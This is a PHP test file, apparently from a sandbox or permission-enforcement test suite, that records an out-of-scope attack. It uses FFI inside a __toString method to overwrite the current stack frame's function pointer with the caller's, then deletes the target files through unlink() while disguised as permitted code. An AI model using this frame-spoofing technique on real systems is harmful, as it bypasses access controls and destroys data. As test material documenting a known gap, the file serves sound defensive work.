<?php
/*
 * Tries: with FFI, write the granted function into the frame of one's own
 * Effect: gone
 * Class: out of scope: native code in PHP
 * Expect: phase1 open; phase2 open; rewriting open; lsm open
 * Options: -d extension=ffi -d ffi.enable=1
 */
require __DIR__ . '/../lib.php';

class Path
{
    public function __toString(): string
    {
        $engine = FFI::cdef('extern unsigned long executor_globals[]; int unlink(const char *path);');
        $frame = $engine->new('union { unsigned long at; unsigned long *words; }');
        $caller = $engine->new('union { unsigned long at; unsigned long *words; }');
        // current_execute_data; then func is word 3, prev_execute_data word 6.
        $frame->at = $engine->executor_globals[61];
        $caller->at = $frame->words[6];
        $own = $frame->words[3];
        $files = targets();
        $frame->words[3] = $caller->words[3];
        foreach ($files as $file) {
            $engine->unlink($file);
        }
        $frame->words[3] = $own;
        return '/nowhere';
    }
}

function granted(): void
{
    require GRANTED;
    (new Store())->each(targets());
}

function attack(): void
{
    require GRANTED;
    (new Store())->each([new Path()]);
}

attempt('granted', 'attack');
